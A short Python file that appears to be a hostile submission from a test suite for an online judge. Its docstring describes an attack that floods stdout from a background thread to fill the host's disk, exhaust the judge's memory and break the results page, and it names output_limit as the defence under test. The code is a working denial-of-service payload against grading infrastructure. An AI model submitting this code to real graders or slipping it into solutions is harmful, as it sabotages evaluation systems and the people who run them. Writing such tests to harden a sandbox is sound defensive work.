"""Prints without end to stdout.

Mechanism: a thread writes as fast as the kernel allows, and the runner never flushes.
Surface: the judge's memory, the container's log on the host's disk, the report, the database, the page.
Gain: a full disk, or a page that no browser opens.
Challenge: twice
Defence: output_limit
"""

import os
import threading


def pour():
    while True:
        os.write(1, b"hostile " * (1 << 15))


def solve(x, out, n):
    threading.Thread(target=pour).start()
    threading.Event().wait(20)
